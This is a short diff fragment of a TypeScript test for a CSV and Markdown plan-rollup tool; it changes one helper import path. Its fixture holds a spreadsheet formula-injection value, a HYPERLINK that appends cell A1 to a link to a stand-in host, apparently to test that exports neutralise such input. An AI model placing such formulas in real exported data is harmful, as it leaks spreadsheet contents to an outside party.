@@ -4,7 +4,7 @@
  */
 import { strict as assert } from 'node:assert';
 import { analyzePlans, rollupCsv, rollupMarkdown, toRollupJson } from '../../src/core';
-import { day, yaml } from './helpers';
+import { day, yaml } from '../utils/plans';
 
 const names = {
   formula: '=HYPERLINK("https://example.invalid/?x="&A1,"open")',
